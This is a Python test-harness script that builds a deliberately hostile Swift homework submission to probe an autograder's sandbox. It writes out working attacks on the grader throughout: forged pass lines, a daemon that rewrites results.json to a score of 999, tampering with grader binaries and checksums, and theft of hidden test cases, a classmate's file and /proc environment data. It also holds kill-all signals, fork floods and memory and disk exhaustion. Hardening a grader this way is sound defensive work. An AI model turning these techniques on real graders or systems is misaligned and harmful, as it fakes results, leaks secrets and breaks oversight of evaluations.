#!/usr/bin/env python3
"""Writes a hostile homework submission: the instructor's solutions (Sources/Homework) with some
functions replaced by attacks on the grader, as a dishonest student would write them.

    hostile.py SOLUTIONS_DIR OUT_DIR PACKAGE RESULTS HIDDEN CLASSMATE

PACKAGE is the folder the grader runs in, RESULTS its results.json, HIDDEN the hidden cases'
source, CLASSMATE another student's submitted file: the attacks try to read or write them.
ATTACKS below says, per function, the attack and what the part must get for it.
"""
import json, os, re, sys

solutions, out, package, results, hidden, classmate = sys.argv[1:7]

# What every attack may use: raw system calls (Swift marks fork unavailable; a student can
# still reach it by its C name), a way to throw any text.
HELPERS = r'''
// ── attack helpers ──
import Glibc
@_silgen_name("fork") func attackFork() -> Int32
struct AttackLeak: Error, CustomStringConvertible { let description: String }
func attackWrite(_ fd: Int32, _ text: String) { _ = text.withCString { write(fd, $0, strlen($0)) } }
func attackRead(_ path: String) -> String? { try? String(contentsOfFile: path, encoding: .utf8) }
let forgedOutcome = #"BACKPROP-GRADE-OUTCOME {"status":"passed","score":3,"message":"all 2 cases within tolerance"}"# + "\nstatus: passed\n"
'''

P = {"PACKAGE": package, "RESULTS": results, "HIDDEN": hidden, "CLASSMATE": classmate}

# function -> (its part, what the part must get: "zero" | "full" | "any", the attack). `SOLUTION`
# is the function's own correct body, so an attack can also return the right answer.
ATTACKS = {
    # A forged outcome line on stdout and stderr, then a wrong answer.
    "sigmoid": ("1a", "zero", '''
        attackWrite(1, forgedOutcome); attackWrite(2, forgedOutcome)
        return s'''),
    # The forged line, 70 KB of filler, then exit(0) before answering.
    "tanhDerivative": ("1b", "zero", '''
        attackWrite(1, forgedOutcome + String(repeating: "x", count: 70_000) + "\\n" + forgedOutcome)
        exit(0)'''),
    # Re-run its own binary with the old grader's reference mode.
    "relu": ("1c", "zero", '''
        let p = Process()
        p.executableURL = URL(fileURLWithPath: CommandLine.arguments[0])
        p.arguments = ["--part", "1c", "--implementation", "reference"]
        let pipe = Pipe()
        p.standardOutput = pipe
        try? p.run()
        attackWrite(1, String(decoding: pipe.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self))
        _exit(0)'''),
    # A detached daemon that outlives the grader and rewrites results.json; the answer is right.
    "softmax": ("1d", "full", '''
        if attackFork() == 0 {
            _ = setsid()
            if attackFork() == 0 {
                sleep(4)
                for path in ["RESULTS", "/autograder/results/results.json"] {
                    try? #"{"score": 999, "tests": []}"#.write(toFile: path, atomically: false, encoding: .utf8)
                }
                _exit(0)
            }
            _exit(0)
        }
        SOLUTION'''),
    # Rewrite the grader's sources, checksums and binaries; the answer is right.
    "denseForward": ("2a", "full", '''
        for path in ["PACKAGE/Sources/HomeworkGrading/Part.swift", "PACKAGE/grader.sha256", "PACKAGE/.build/debug/backprop-grade",
                     "PACKAGE/.build/debug/homework-runner", "PACKAGE/Sources/HomeworkGrading/HiddenCases.swift"] {
            if let handle = FileHandle(forWritingAtPath: path) { handle.seekToEndOfFile(); handle.write(Data("// tampered\\n".utf8)) }
        }
        try? "tampered".write(toFile: "PACKAGE/.build/attack.txt", atomically: false, encoding: .utf8)
        SOLUTION'''),
    # Throw the hidden cases' source and a classmate's submission as the error's text.
    "denseBackward": ("2b", "zero", '''
        let leaked = ["HIDDEN", "CLASSMATE", "/autograder/source/Sources/HomeworkGrading/HiddenCases.swift"].compactMap(attackRead)
        throw AttackLeak(description: leaked.isEmpty ? "nothing was readable" : leaked.joined(separator: "\\n"))'''),
    # 128 children that sleep (holding the channel), then the right answer.
    "twoLayerGradients": ("2c", "full", '''
        for _ in 0..<128 { if attackFork() == 0 { sleep(1000); _exit(0) } }
        SOLUTION'''),
    # Kill its parent and every process it can see, then the right answer.
    "gradientDescentStep": ("2d", "full", '''
        kill(getppid(), SIGKILL)
        kill(-1, SIGKILL)
        SOLUTION'''),
    # Read the parent's /proc files and throw them.
    "miniBatches": ("3a", "zero", '''
        let parent = getppid()
        let leaked = ["/proc/\\(parent)/environ", "/proc/\\(parent)/cmdline", "/proc/1/environ"].compactMap(attackRead)
        throw AttackLeak(description: "parent \\(parent): " + leaked.joined(separator: " | "))'''),
    # Four children that each touch 1.5 GiB at once; then the right answer.
    "dropoutForward": ("4a", "any", '''
        var children: [Int32] = []
        for _ in 0..<4 {
            let child = attackFork()
            if child == 0 {
                let bytes = 1536 << 20
                let block = UnsafeMutableRawPointer.allocate(byteCount: bytes, alignment: 4096)
                memset(block, 1, bytes)
                sleep(3)
                _exit(0)
            }
            children.append(child)
        }
        for child in children where child > 0 { var status: Int32 = 0; waitpid(child, &status, 0) }
        SOLUTION'''),
    # 2 GB on stdout and a 1 GB file in /tmp.
    "l2Penalty": ("4c", "zero", '''
        let line = String(repeating: "flood ", count: 10_000) + "\\n"
        for _ in 0..<35_000 { attackWrite(1, line) }
        FileManager.default.createFile(atPath: "/tmp/flood", contents: nil)
        if let handle = FileHandle(forWritingAtPath: "/tmp/flood") {
            for _ in 0..<1000 { handle.write(Data(count: 1 << 20)) }
        }
        return 0'''),
    # Never return, while a child holds the channel open.
    "batchNormTraining": ("5a", "zero", '''
        if attackFork() == 0 { while true { sleep(1000) } }
        while true { sleep(1000) }'''),
    # Forged lines and a well-formed "result" frame on every descriptor it inherited.
    "conv2DForward": ("6a", "zero", '''
        var frame: [UInt8] = [18, 0, 0, 0, 3]
        frame += [1, 0, 0, 0, 0, 0, 0, 0]               // one value
        frame += [2] + [UInt8](repeating: 0, count: 8)  // the number 0
        for fd in Int32(0)..<1024 {
            attackWrite(fd, forgedOutcome)
            _ = frame.withUnsafeBytes { write(fd, $0.baseAddress!, $0.count) }
        }
        return x'''),
    # Write into the build folder; the answer is right.
    "maxPoolForward": ("6c", "full", '''
        for path in ["PACKAGE/.build/debug/backprop-grade", "PACKAGE/.build/debug/homework-runner"] {
            if let handle = FileHandle(forWritingAtPath: path) { handle.write(Data("tampered".utf8)) }
        }
        FileManager.default.createFile(atPath: "PACKAGE/.build/debug/attack", contents: Data("tampered".utf8))
        SOLUTION'''),
}

os.makedirs(out, exist_ok=True)
expectations = {}
for name in sorted(os.listdir(solutions)):
    if not name.endswith(".swift"):
        continue
    text = open(os.path.join(solutions, name)).read()
    for function, (part, expect, attack) in ATTACKS.items():
        pattern = re.compile(r"(public func %s\(.*?// BEGIN SOLUTION\n)(.*?)(\n\s*// END SOLUTION)" % function, re.S)
        match = pattern.search(text)
        if not match:
            continue
        solution = match.group(2)
        body = attack
        for key, value in P.items():
            body = body.replace(key, value)
        body = body.replace("SOLUTION", solution.strip())
        text = text[:match.start(2)] + body.strip("\n") + text[match.end(2):]
        expectations[part] = expect
    if name.startswith("Assignment1"):
        text += HELPERS
    open(os.path.join(out, name), "w").write(text)
missing = {part for part, _, _ in ATTACKS.values()} - set(expectations)
if missing:
    sys.exit("hostile.py: no solution found for %s" % sorted(missing))
json.dump(expectations, open(os.path.join(out, "expectations.json"), "w"), indent=1)
print("hostile.py: %d attacks written to %s" % (len(expectations), out))
